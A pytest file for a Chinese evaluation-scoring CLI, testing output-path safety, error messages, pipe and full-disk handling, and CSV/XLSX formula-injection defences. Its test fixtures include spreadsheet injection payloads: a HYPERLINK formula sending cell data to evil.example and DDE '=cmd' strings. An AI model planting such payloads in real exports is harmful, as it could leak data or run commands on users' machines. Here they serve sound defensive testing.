"""Outputs and the command line under hostile and careless use (issue 13, cases 2, 11, 14, 18, 19).

- ``-o`` never names an input (evidence, a file of an evidence folder, the rulebook
  and its ``extends`` chain, a waiver or units file, the audit store and its
  sidecars), by path, symlink or hard link: refused with exit 2 before anything is
  read or written; a report replaces an older one only when the run succeeded.
- Text is text: no CSV cell a spreadsheet would run as a formula (OWASP), no XLSX
  formula, unit ``007`` stays ``007``; numbers (``-0.50``) stay numbers.
- ``--format xlsx`` is linear.
- A closed pipe is not an error; a full disk is named, never a traceback.
- Units-file and waiver-file problems say which file; an internal error exits 3.
"""

from __future__ import annotations

import csv
import io
import os
import stat
import subprocess
import sys
import zipfile
from pathlib import Path
from typing import Any

import pytest

# These tests are about the English wording of the messages (their Chinese: the catalog,
# tests/test_messages.py).
pytestmark = pytest.mark.usefixtures("english")

ROOT = Path(__file__).resolve().parent.parent
RULES = ROOT / "rules" / "town-village-2026.toml"
TOWN_CSV = ROOT / "examples" / "town" / "town.csv"
TOWN_EVIDENCE = ROOT / "examples" / "town" / "evidence"
UNITS = ROOT / "examples" / "town" / "units.csv"


def run(
    *args: Any, cwd: Path, stdout: Any = subprocess.PIPE, timeout: float = 60
) -> subprocess.CompletedProcess[str]:
    env = dict(
        os.environ, PYTHONPATH=str(ROOT / "src") + os.pathsep + os.environ.get("PYTHONPATH", "")
    )
    env.pop("PYTHONIOENCODING", None)
    env["FULIAN_EVAL_LANG"] = (
        "en"  # these tests are about the English wording (Chinese: test_messages.py)
    )
    p = subprocess.run(
        [sys.executable, "-m", "fulian_eval", *map(str, args)],
        cwd=cwd,
        stdout=stdout,
        stderr=subprocess.PIPE,
        text=True,
        encoding="utf-8",
        env=env,
        timeout=timeout,
    )
    assert "Traceback" not in p.stderr, p.stderr
    assert "internal error" not in p.stderr, p.stderr
    return p


def snapshot(folder: Path) -> dict[str, bytes]:
    """Every file under ``folder`` (not following symlinks' targets twice) with its bytes."""
    return {
        str(p.relative_to(folder)): p.read_bytes()
        for p in sorted(folder.rglob("*"))
        if p.is_file() and not p.is_symlink()
    }


def town_rows(tmp: Path, n: int, rename: dict[str, tuple[str, str]] | None = None) -> Path:
    """town.csv with ``n`` units (the 21 repeated under new ids); ``rename`` maps an id to (new id, new name)."""
    rows = list(csv.reader(io.StringIO(TOWN_CSV.read_text(encoding="utf-8-sig"))))
    head, body = rows[0], rows[1:]
    ui, ni = head.index("unit"), head.index("name")
    out = []
    for k in range(n):
        r = list(body[k % len(body)])
        if n > len(body):
            r[ui] = f"{r[ui]}{k}"
        if rename and r[ui] in rename:
            r[ui], r[ni] = rename[r[ui]]
        out.append(r)
    path = tmp / "town.csv"
    with path.open("w", encoding="utf-8", newline="") as f:
        w = csv.writer(f, lineterminator="\n")
        w.writerow(head)
        w.writerows(out)
    return path


def xlsx_of(csv_path: Path, xlsx_path: Path) -> Path:
    openpyxl = pytest.importorskip("openpyxl")
    wb = openpyxl.Workbook()
    ws = wb.active
    for row in csv.reader(io.StringIO(csv_path.read_text(encoding="utf-8-sig"))):
        ws.append(row)
    wb.save(xlsx_path)
    return xlsx_path


# ----------------------------------------------------- case 2: -o is an input


# (name, arguments, what stderr must name): every way -o can name an input
SETUPS: list[tuple[str, list[Any], str]] = [
    (
        "score-csv-evidence",
        ["score", RULES, "town.csv", "--format", "csv", "-o", "town.csv"],
        "town.csv",
    ),
    (
        "rank-csv-evidence",
        ["rank", RULES, "town.csv", "--format", "csv", "-o", "town.csv"],
        "town.csv",
    ),
    (
        "json-over-evidence",
        ["score", RULES, "town.csv", "--format", "json", "-o", "town.csv"],
        "town.csv",
    ),
    (
        "xlsx-evidence-workbook",
        ["rank", RULES, "town.xlsx", "--format", "xlsx", "-o", "town.xlsx"],
        "town.xlsx",
    ),
    ("the-rulebook", ["score", "rb.toml", "town.csv", "-o", "rb.toml"], "rb.toml"),
    (
        "the-extends-base",
        ["score", "town.toml", "town.csv", "--format", "csv", "-o", "county.toml"],
        "county.toml",
    ),
    (
        "the-waiver-file",
        ["score", RULES, "town.csv", "--waivers", "w.toml", "-o", "w.toml"],
        "w.toml",
    ),
    (
        "the-audit-store",
        ["rank", RULES, "town.csv", "--format", "csv", "-o", "old.db", "--audit", "old.db"],
        "old.db",
    ),
    (
        "the-store-wal",
        ["rank", RULES, "town.csv", "--format", "csv", "-o", "a.db-wal", "--audit", "a.db"],
        "a.db",
    ),
    (
        "a-symlink-to-it",
        ["rank", RULES, "town.csv", "--format", "csv", "-o", "link.csv"],
        "town.csv",
    ),
    (
        "a-hard-link-to-it",
        ["rank", RULES, "town.csv", "--format", "csv", "-o", "hard.csv"],
        "town.csv",
    ),
    (
        "a-file-of-a-folder",
        ["score", RULES, "ev", "--format", "csv", "-o", "ev/meiling.toml"],
        "ev",
    ),
    (
        "new-csv-in-a-folder",
        ["score", RULES, "ev", "--format", "csv", "-o", "ev/sub/report.csv"],
        "ev",
    ),
    ("hard-link-into-a-folder", ["score", RULES, "ev", "-o", "evlink.toml"], "meiling.toml"),
    ("explain", ["explain", RULES, "ev", "--unit", "meiling", "-o", "ev/meiling.toml"], "ev"),
    (
        "crosscheck",
        ["crosscheck", RULES, "town.csv", "--format", "csv", "-o", "town.csv"],
        "town.csv",
    ),
    ("plan-units", ["plan", "units.csv", "--seed", "7", "-o", "units.csv"], "units.csv"),
    (
        "sample-units",
        ["sample", "units.csv", "--fraction", "10%", "--seed", "7", "-o", "units.csv"],
        "units.csv",
    ),
    ("audit-export", ["audit", "export", "old.db", "-o", "old.db"], "old.db"),
]


def _prepare(tmp: Path) -> None:
    (tmp / "town.csv").write_bytes(TOWN_CSV.read_bytes())
    xlsx_of(tmp / "town.csv", tmp / "town.xlsx")
    (tmp / "rb.toml").write_bytes(RULES.read_bytes())
    (tmp / "county.toml").write_bytes(RULES.read_bytes())
    (tmp / "town.toml").write_text('extends = "county.toml"\n', encoding="utf-8")
    (tmp / "w.toml").write_text(
        '[[waivers]]\nunit = "songwu"\nitem = "facilities.room"\nreason = "改建"\n'
        'approved_by = "县妇联"\nexpires = 2099-12-31\n',
        encoding="utf-8",
    )
    (tmp / "link.csv").symlink_to("town.csv")
    os.link(tmp / "town.csv", tmp / "hard.csv")
    (tmp / "ev" / "sub").mkdir(parents=True)
    for f in ("meiling.toml", "songwu.toml"):
        (tmp / "ev" / f).write_bytes((TOWN_EVIDENCE / f).read_bytes())
    os.link(tmp / "ev" / "meiling.toml", tmp / "evlink.toml")
    (tmp / "units.csv").write_bytes(UNITS.read_bytes())
    made = run("plan", "units.csv", "--seed", "1", "--audit", "old.db", cwd=tmp)
    assert made.returncode == 0, made.stderr


@pytest.mark.parametrize(("args", "named"), [pytest.param(a, n, id=i) for i, a, n in SETUPS])
def test_output_that_is_an_input_is_refused(tmp_path: Path, args: list[Any], named: str) -> None:
    """Old: the streamed path truncated the evidence to a header-only report (and "run 1 stored")."""
    _prepare(tmp_path)
    before = snapshot(tmp_path)
    p = run(*args, cwd=tmp_path)
    assert p.returncode == 2, p.stderr
    out = args[args.index("-o") + 1]
    assert p.stderr.startswith(f"fulian-eval: cannot write the report to {out}: it is "), p.stderr
    assert named in p.stderr and "write the report to another file" in p.stderr, p.stderr
    assert p.stdout == ""
    assert snapshot(tmp_path) == before, "a file changed or appeared"


def test_refused_before_the_audit_store_is_made(tmp_path: Path) -> None:
    (tmp_path / "town.csv").write_bytes(TOWN_CSV.read_bytes())
    p = run(
        "rank",
        RULES,
        "town.csv",
        "--format",
        "csv",
        "-o",
        "new.db",
        "--audit",
        "new.db",
        cwd=tmp_path,
    )
    assert p.returncode == 2 and "the audit store new.db" in p.stderr
    assert "stored" not in p.stderr
    assert sorted(os.listdir(tmp_path)) == ["town.csv"]


def test_an_output_elsewhere_is_still_written(tmp_path: Path) -> None:
    """Not an input: a report beside the evidence, a non-evidence file in its folder, /dev/null."""
    (tmp_path / "town.csv").write_bytes(TOWN_CSV.read_bytes())
    (tmp_path / "ev").mkdir()
    (tmp_path / "ev" / "meiling.toml").write_bytes((TOWN_EVIDENCE / "meiling.toml").read_bytes())
    assert (
        run(
            "score", RULES, "town.csv", "--format", "csv", "-o", "scores.csv", cwd=tmp_path
        ).returncode
        == 0
    )
    assert (tmp_path / "scores.csv").read_bytes().startswith(b"\xef\xbb\xbfrank,group_rank,unit")
    assert (
        run(
            "score", RULES, "ev", "--format", "json", "-o", "ev/scores.json", cwd=tmp_path
        ).returncode
        == 0
    )
    assert (
        run(
            "score", RULES, "town.csv", "--format", "csv", "-o", os.devnull, cwd=tmp_path
        ).returncode
        == 0
    )
    assert sorted(os.listdir(tmp_path)) == ["ev", "scores.csv", "town.csv"]


def _no_temp_files(folder: Path) -> None:
    assert not [p for p in folder.rglob("*.tmp")], list(folder.rglob("*"))


@pytest.mark.parametrize("fmt", ["csv", "json", "table", "xlsx"])
def test_a_failed_run_keeps_the_older_report(
    tmp_path: Path, fmt: str, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """A run that fails after its report was (partly) written leaves the older report as it was."""
    from fulian_eval.cli import app as cli

    out = tmp_path / f"r.{fmt}"
    out.write_bytes(b"the older report\n")

    def half_then_fail(t: Any, r: Any, f: Any) -> None:  # the streamed CSV writer
        f.write("rank,group_rank\n1,")
        raise RuntimeError("disk gone")

    emit, emit_workbook = cli._emit, cli._emit_workbook

    def emit_then_fail(
        args: Any, text: str
    ) -> None:  # every other report: written whole, then a failure
        emit(args, text)
        raise RuntimeError("disk gone")

    def workbook_then_fail(
        args: Any, write: Any
    ) -> None:  # the workbook: written whole, then a failure
        emit_workbook(args, write)
        raise RuntimeError("disk gone")

    from fulian_eval import pipeline
    from fulian_eval.report import json_stream

    def json_half_then_fail(spool: Any) -> Any:  # the streamed JSON writer (text or bytes)
        yield b'{\n "rulebook": '
        raise RuntimeError("disk gone")

    monkeypatch.setattr(
        pipeline, "write_score_csv", half_then_fail
    )  # the CLI writes through fe.score_run
    monkeypatch.setattr(json_stream.JsonSpool, "chunks", json_half_then_fail)
    monkeypatch.setattr(cli, "_emit", emit_then_fail)
    monkeypatch.setattr(cli, "_emit_workbook", workbook_then_fail)
    code = cli.main(["score", str(RULES), str(TOWN_CSV), "--format", fmt, "-o", str(out)])
    err = capsys.readouterr().err
    assert code == 3 and "internal error: RuntimeError: disk gone" in err
    assert out.read_bytes() == b"the older report\n"
    _no_temp_files(tmp_path)


def test_an_interrupted_run_keeps_the_older_report(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    from fulian_eval.cli import app as cli

    out = tmp_path / "r.csv"
    out.write_bytes(b"older\n")

    def interrupt(*_: Any, **__: Any) -> None:
        raise KeyboardInterrupt

    from fulian_eval import pipeline

    monkeypatch.setattr(pipeline, "score_tables", interrupt)  # the CLI scores through fe.score_run
    code = cli.main(["rank", str(RULES), str(TOWN_CSV), "--format", "csv", "-o", str(out)])
    assert code == 130 and "interrupted" in capsys.readouterr().err
    assert out.read_bytes() == b"older\n"
    _no_temp_files(tmp_path)


def test_a_report_replaces_the_older_one_and_keeps_its_mode(tmp_path: Path) -> None:
    (tmp_path / "town.csv").write_bytes(TOWN_CSV.read_bytes())
    old = tmp_path / "r.csv"
    old.write_text("older\n", encoding="utf-8")
    old.chmod(0o640)
    assert (
        run("rank", RULES, "town.csv", "--format", "csv", "-o", "r.csv", cwd=tmp_path).returncode
        == 0
    )
    assert old.read_text(encoding="utf-8-sig").startswith("rank,group_rank,unit")
    assert stat.S_IMODE(old.stat().st_mode) == 0o640
    new = tmp_path / "n.md"
    assert (
        run(
            "rank", RULES, "town.csv", "--format", "markdown", "-o", "n.md", cwd=tmp_path
        ).returncode
        == 0
    )
    mask = os.umask(0)
    os.umask(mask)
    assert (
        stat.S_IMODE(new.stat().st_mode) == 0o666 & ~mask
    )  # as open() would make it, not mkstemp's 0600
    # through a symlink: the file it names is replaced, the link stays
    (tmp_path / "via.csv").symlink_to("r.csv")
    assert (
        run("score", RULES, "town.csv", "--format", "csv", "-o", "via.csv", cwd=tmp_path).returncode
        == 0
    )
    assert (tmp_path / "via.csv").is_symlink()
    assert "archives.registers" in old.read_text(encoding="utf-8-sig")
    _no_temp_files(tmp_path)


def test_unwritable_output_fails_before_scoring(tmp_path: Path) -> None:
    p = run(
        "rank",
        RULES,
        TOWN_CSV,
        "--format",
        "csv",
        "-o",
        tmp_path / "no" / "such" / "r.csv",
        cwd=tmp_path,
    )
    assert p.returncode == 2
    assert (
        p.stderr
        == f"fulian-eval: cannot write {tmp_path / 'no' / 'such' / 'r.csv'}: No such file or directory\n"
    )
    p = run("rank", RULES, TOWN_CSV, "--format", "csv", "-o", tmp_path, cwd=tmp_path)
    assert (
        p.returncode == 2
        and p.stderr
        == f"fulian-eval: cannot write {tmp_path}: it is a folder; give -o a file name\n"
    )


# ------------------------------------------------- case 11: formula injection

HOSTILE = {
    "dongqiao": ("007", '=HYPERLINK("http://evil.example/?"&A1,"点击")'),
    "shiqiao": ("+cmd", "@SUM(1+1)*cmd|' /C calc'!A0"),
    "meiling": ("-x", "=cmd|' /C calc'!A0"),
    "huayuan": ("=1+1", "-2.50"),
}


def _neutral(text: str) -> str:
    return "'" + text if text[:1] in "=+-@\t\r" and text != "-2.50" else text


def test_csv_text_cells_cannot_become_formulas_on_either_path(tmp_path: Path) -> None:
    """Old: the name was written raw. Both CSV writers now agree byte for byte."""
    table = town_rows(tmp_path, 21, HOSTILE)
    (tmp_path / "none.toml").write_text("waivers = []\n", encoding="utf-8")
    for command in ("score", "rank"):
        fast = run(command, RULES, table, "--format", "csv", cwd=tmp_path)
        slow = run(
            command, RULES, table, "--format", "csv", "--waivers", "none.toml", cwd=tmp_path
        )  # per unit
        assert fast.returncode == slow.returncode == 0, fast.stderr + slow.stderr
        assert fast.stdout == slow.stdout
        rows = {r[2]: r for r in csv.reader(io.StringIO(fast.stdout))}
        for uid, name in HOSTILE.values():
            row = rows[_neutral(uid)]
            assert row[3] == _neutral(name)
        assert rows["'=1+1"][3] == "-2.50"  # looks like a number: nothing a spreadsheet would run
        assert rows["007"][2] == "007"
        for row in rows.values():
            for cell in row:
                assert cell[:1] not in "=+@\t\r" or cell == "", row
    # a negative score is a number, not text
    score = run("score", RULES, table, "--format", "csv", cwd=tmp_path).stdout
    jinpan = next(r for r in csv.reader(io.StringIO(score)) if r[2] == "jinpan")
    assert "-0.50" in jinpan


def test_csv_cell_follows_the_owasp_rule() -> None:
    from fulian_eval.lang.text import csv_cell, csv_text

    assert [
        csv_cell(t)
        for t in ("=1", "+1", "-x", "@x", "\tx", "\r=1", "", "a=1", "'=1", "-2.50", "-3", "7")
    ] == ["'=1", "'+1", "'-x", "'@x", "'\tx", "'\r=1", "", "a=1", "'=1", "-2.50", "-3", "7"]
    assert csv_text(["unit", "=h"], [["=x", 3, "-0.50"]]) == "unit,'=h\n'=x,3,-0.50\n"


def test_xlsx_text_is_typed_text_and_numbers_are_numbers(tmp_path: Path) -> None:
    """Old: ``=HYPERLINK(…)`` became a live formula and unit 007 the number 7."""
    openpyxl = pytest.importorskip("openpyxl")
    table = town_rows(tmp_path, 21, HOSTILE)
    p = run("score", RULES, table, "--format", "xlsx", "-o", "r.xlsx", cwd=tmp_path)
    assert p.returncode == 0, p.stderr
    with zipfile.ZipFile(tmp_path / "r.xlsx") as z:
        sheet = z.read("xl/worksheets/sheet1.xml").decode("utf-8")
    assert "<f>" not in sheet and "<f " not in sheet
    wb = openpyxl.load_workbook(tmp_path / "r.xlsx")
    ws = wb["排名"]
    rows = list(ws.iter_rows())
    head = [c.value for c in rows[0]]
    by_unit = {r[head.index("单位")].value: r for r in rows[1:]}
    for uid, name in HOSTILE.values():
        row = by_unit[uid]  # the text as it is: an XLSX cell is typed, no ' needed
        assert row[head.index("单位")].data_type == "s"
        assert row[head.index("名称")].value == name and row[head.index("名称")].data_type == "s"
    assert by_unit["007"][head.index("单位")].value == "007"
    assert (
        by_unit["=1+1"][head.index("名称")].value == "-2.50"
    )  # a name, even if it looks like a number
    total = by_unit["007"][head.index("总分")]
    assert (
        total.data_type == "n" and isinstance(total.value, float) and total.number_format == "0.00"
    )
    assert by_unit["007"][head.index("名次")].value == int(by_unit["007"][head.index("名次")].value)
    scores = list(wb["各项得分"].iter_rows())
    ids = [
        c.value.split("\n")[0] for c in scores[1]
    ]  # the second header row: "floating.accuracy\n满分2.00"
    jinpan = next(r for r in scores[2:] if r[1].value == "jinpan")
    assert jinpan[ids.index("floating.accuracy")].value == -0.5


def test_xlsx_control_characters_do_not_crash(tmp_path: Path) -> None:
    openpyxl = pytest.importorskip("openpyxl")
    table = town_rows(tmp_path, 21, {"dongqiao": ("dq", "东\x01桥<&>村")})
    p = run("rank", RULES, table, "--format", "xlsx", "-o", "r.xlsx", cwd=tmp_path)
    assert p.returncode == 0, p.stderr
    names = [
        r[3] for r in openpyxl.load_workbook(tmp_path / "r.xlsx").active.iter_rows(values_only=True)
    ]
    assert "东\ufffd桥<&>村" in names


# ----------------------------------------------------- case 14: xlsx is linear


def test_xlsx_of_4000_units_is_whole(tmp_path: Path) -> None:
    """Old: 25–71 s (every row rescanned the sheet for its size); the speed is measured in
    ``benchmarks/bench_xlsx.py``, this checks that a big sheet is written whole."""
    openpyxl = pytest.importorskip("openpyxl")
    from fractions import Fraction

    from fulian_eval.report.workbook import INT, POINTS, Column, Sheet, write_workbook

    cols = [
        Column("名次", INT),
        Column("单位"),
        Column("名称"),
        *[Column(f"c{k}", POINTS) for k in range(42)],
    ]
    rows = ([i, f"u{i}", "村", *[Fraction(5, 2)] * 42] for i in range(4000))
    write_workbook(str(tmp_path / "r.xlsx"), [Sheet("排名", cols, rows)])
    wb = openpyxl.load_workbook(tmp_path / "r.xlsx", read_only=True)
    back = list(wb.worksheets[0].iter_rows(values_only=True))
    wb.close()  # a read-only workbook keeps its file open until closed
    assert len(back) == 4001 and back[0][:3] == ("名次", "单位", "名称")
    assert back[-1][:4] == (3999, "u3999", "村", 2.5) and back[-1][-1] == 2.5


def test_xlsx_refuses_more_rows_than_a_sheet_holds(monkeypatch: pytest.MonkeyPatch) -> None:
    from fulian_eval.report import workbook

    monkeypatch.setattr(
        workbook, "XLSX_MAX_ROWS", 5
    )  # as for 1,048,576, without writing a million rows
    with pytest.raises(
        workbook.TooBig, match="工作表“排名”超过 Excel 一张工作表最多的 5 行；请改用 --format csv"
    ):
        workbook.write_workbook(
            os.devnull, [workbook.Sheet("排名", [workbook.Column("a")], ([k] for k in range(5)))]
        )
    with pytest.raises(workbook.TooBig, match="有 16,385 列"):
        workbook.write_workbook(
            os.devnull, [workbook.Sheet("排名", [workbook.Column("a")] * 16_385, [])]
        )


# ------------------------------------------- case 18: pipes and full disks


def test_a_closed_pipe_is_not_an_error(tmp_path: Path) -> None:
    """Old: "cannot write None: Broken pipe", exit 2."""
    table = town_rows(tmp_path, 3000)
    env = dict(os.environ, PYTHONPATH=str(ROOT / "src"))
    for fmt in ("csv", "table"):
        p = subprocess.Popen(
            [sys.executable, "-m", "fulian_eval", "score", str(RULES), str(table), "--format", fmt],
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            env=env,
            cwd=tmp_path,
        )
        assert p.stdout is not None and p.stderr is not None
        p.stdout.read(200)  # `| head -c 200`
        p.stdout.close()
        code = p.wait(timeout=60)
        err = p.stderr.read().decode("utf-8")
        p.stderr.close()
        assert (code, err) == (0, ""), fmt


def test_a_closed_pipe_with_audit_says_the_run_was_not_stored(tmp_path: Path) -> None:
    table = town_rows(tmp_path, 3000)
    env = dict(os.environ, PYTHONPATH=str(ROOT / "src"))
    p = subprocess.Popen(
        [
            sys.executable,
            "-m",
            "fulian_eval",
            "score",
            str(RULES),
            str(table),
            "--format",
            "csv",
            "--audit",
            "a.db",
        ],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        env=env,
        cwd=tmp_path,
    )
    assert p.stdout is not None and p.stderr is not None
    p.stdout.read(200)
    p.stdout.close()
    code = p.wait(timeout=60)
    err = p.stderr.read().decode("utf-8")
    p.stderr.close()
    assert code == 2
    assert (
        "standard output was closed before the report was written; the run was not stored in a.db"
        in err
    )
    assert "Traceback" not in err


@pytest.mark.skipif(not Path("/dev/full").exists(), reason="needs /dev/full")
@pytest.mark.parametrize("fmt", ["csv", "json", "table"])
def test_stdout_on_a_full_disk_is_named(tmp_path: Path, fmt: str) -> None:
    """Old: "cannot write None: No space left on device" (csv) or an internal error."""
    with open("/dev/full", "w") as full:
        p = run("score", RULES, TOWN_CSV, "--format", fmt, cwd=tmp_path, stdout=full)
    assert p.returncode == 2
    assert p.stderr.endswith(
        "fulian-eval: cannot write to standard output: No space left on device\n"
    ), p.stderr


@pytest.mark.skipif(not Path("/dev/full").exists(), reason="needs /dev/full")
@pytest.mark.parametrize("args", [["validate", RULES], ["plan", UNITS, "--seed", "7"]])
def test_other_commands_on_a_full_stdout_are_named(tmp_path: Path, args: list[Any]) -> None:
    with open("/dev/full", "w") as full:
        p = run(*args, cwd=tmp_path, stdout=full)
    assert (p.returncode, p.stderr) == (
        2,
        "fulian-eval: cannot write to standard output: No space left on device\n",
    )


@pytest.mark.skipif(not Path("/dev/full").exists(), reason="needs /dev/full")
def test_xlsx_on_a_full_disk_is_named() -> None:
    """Old: the message, then a traceback from zipfile's __del__."""
    p = run("score", RULES, TOWN_CSV, "--format", "xlsx", "-o", "/dev/full", cwd=ROOT)
    assert (p.returncode, p.stderr) == (
        2,
        "fulian-eval: cannot write /dev/full: No space left on device\n",
    )


# --------------------------------- case 19 (part): which file is invalid, exit codes


def test_a_group_of_one_names_the_units_file(tmp_path: Path) -> None:
    (tmp_path / "u.csv").write_text("unit,name,group\na,A,x\nb,B,x\nc,C,y\n", encoding="utf-8")
    p = run("plan", "u.csv", "--seed", "1", cwd=tmp_path)
    assert p.returncode == 2
    assert p.stderr == (
        "invalid units file u.csv (1 problem):\n"
        "  group 'y' has only one unit ('c'); it has nobody to check it — merge it into another group\n"
    )


def test_a_bad_units_file_is_not_a_rulebook(tmp_path: Path) -> None:
    (tmp_path / "u.csv").write_text("unit,name\na,A\n", encoding="utf-8")
    p = run("sample", "u.csv", "--fraction", "10%", "--seed", "1", cwd=tmp_path)
    assert p.returncode == 2
    assert p.stderr.startswith("invalid units file u.csv (1 problem):\n  u.csv:1: header:"), (
        p.stderr
    )
    assert "rulebook" not in p.stderr


def test_a_bad_waiver_file_is_named(tmp_path: Path) -> None:
    (tmp_path / "w.toml").write_text(
        '[[waivers]]\nunit = "songwu"\nitem = "facilities.rom"\nreason = "x"\n'
        'approved_by = "y"\nexpires = 2099-01-01\n',
        encoding="utf-8",
    )
    p = run("score", RULES, TOWN_CSV, "--waivers", "w.toml", cwd=tmp_path)
    assert p.returncode == 2
    assert p.stderr == (
        "invalid waiver file w.toml (1 problem):\n  w.toml:3: waivers[0].item: unknown item "
        "'facilities.rom' (did you mean 'facilities.room'?)\n"
    )
    (tmp_path / "bad.toml").write_text("[[waivers]\n", encoding="utf-8")
    p = run("score", RULES, TOWN_CSV, "--waivers", "bad.toml", cwd=tmp_path)
    assert p.returncode == 2 and p.stderr.startswith(
        "invalid waiver file bad.toml (1 problem):\n  bad.toml"
    )


@pytest.mark.parametrize("path", ["nope.toml", "."])
def test_a_waiver_path_that_is_no_file_is_a_usage_error(tmp_path: Path, path: str) -> None:
    (tmp_path / "out.csv").write_text("older\n", encoding="utf-8")
    p = run("score", RULES, TOWN_CSV, "--waivers", path, "-o", "out.csv", cwd=tmp_path)
    assert p.returncode == 2
    why = "No such file or directory" if path == "nope.toml" else "it is a folder"
    assert p.stderr == f"fulian-eval: cannot read the waiver file {path}: {why}\n"
    assert (tmp_path / "out.csv").read_text(encoding="utf-8") == "older\n"


def test_an_internal_error_exits_3(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    from fulian_eval.cli import app as cli

    def boom(_: Any) -> int:
        raise ZeroDivisionError("boom")

    monkeypatch.setitem(cli._COMMANDS, "validate", boom)
    assert cli.main(["validate", str(RULES)]) == 3
    err = capsys.readouterr().err
    assert err.startswith("fulian-eval: internal error: ZeroDivisionError: boom\n")


def test_help_lists_the_exit_codes(tmp_path: Path) -> None:
    p = run("--help", cwd=tmp_path)
    assert p.returncode == 0
    for line in (
        "0    every unit scored",
        "1    some evidence rejected",
        "2    usage error",
        "3    internal error",
        "130  interrupted",
    ):
        assert line in p.stdout


def test_the_shipped_waiver_file_runs_as_the_readme_says(tmp_path: Path) -> None:
    readme = (ROOT / "README.md").read_text(encoding="utf-8")
    line = next(x for x in readme.splitlines() if "--waivers" in x and x.startswith("$fe"))
    assert "examples/town/waivers.toml" in line
    args = line.split()[1:]
    p = run(*args, "--format", "csv", cwd=ROOT)
    assert p.returncode == 0, p.stderr
    songwu = next(r for r in csv.reader(io.StringIO(p.stdout)) if r[2] == "songwu")
    assert songwu[-1] == "76.75"  # total_without_waivers: the README's table
    assert songwu[6] == "79.72"
